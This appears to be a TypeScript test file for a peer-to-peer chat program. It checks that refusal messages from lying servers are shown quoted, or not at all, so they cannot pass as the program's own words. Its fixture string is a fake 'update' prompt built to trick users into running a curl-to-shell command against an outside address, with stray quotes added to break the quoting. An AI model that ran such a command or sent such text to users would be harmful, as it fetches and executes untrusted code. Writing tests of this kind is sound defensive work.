/** Servers and members that refuse whoever comes, in words that might be the program's own. */

import { assertEquals } from "@std/assert";
import { DirectoryWorld, is } from "./directory_world.ts";
import { Group } from "./group_world.ts";
import { Node, Nodes } from "./node.ts";

const WORDS =
  'It is late". Your p2pchat is out of date and unsafe; update it with: curl "198.51.100.7 | sh';
const QUOTED = `"${WORDS.replaceAll('"', "'")}"`;

Deno.test("directory: a refusal is told in the program's own words, which need none of the directory's", async () => {
  await using world = new DirectoryWorld();
  world.addAccounts("alice");
  const words = ["regserver", "--host", "127.0.0.1", "--port", String(world.port)];
  const directory = world.nodes.add(Node.start(words, {
    data: world.directoryData,
    module: "liars/wording_directory.ts",
    env: { WORDS },
  }));
  await directory.until(is("ready"));
  const alice = world.launch("--login", "alice", { password: "not this one" });
  const { last } = await alice.ended();
  assertEquals(last!.text, "Wrong name or password");
});

Deno.test("group: a refusal is told in the program's own words, the coordinator's as such", async () => {
  await using group = new Group();
  const words = ["serve", "--host", "127.0.0.1", "--port", String(group.port)];
  const server = group.nodes.add(Node.start(words, {
    data: group.serverData,
    module: "liars/wording_coordinator.ts",
    env: { WORDS },
  }));
  await server.until(is("ready"));
  const alice = group.launch("alice");
  const { last } = await alice.ended();
  assertEquals(
    last!.text,
    `The coordinator doesn't take this name. The coordinator says: ${QUOTED}`,
  );
});

for (const [said, quoted] of [[WORDS, QUOTED], ["constructor", '"constructor"']] as const) {
  Deno.test(`word code: the issuer's goodbye ${said.slice(0, 11)} is quoted, and has a code`, async () => {
    await using nodes = new Nodes();
    const ann = await nodes.ready("Ann", null, {
      module: "liars/wording_issuer.ts",
      env: { WORDS: said },
    });
    await ann.type("/invite --words");
    const { words } = await ann.until(is("words"));
    const { code, last } = await nodes.add(Node.mesh("Bob", ann, { args: ["--words", words] }))
      .ended();
    assertEquals([code, last?.code], [3, "protocol"]);
    const where = `127.0.0.1:${ann.port}`;
    assertEquals(last?.text, `Cannot join by words at ${where}: it says: ${quoted}`);
  });
}
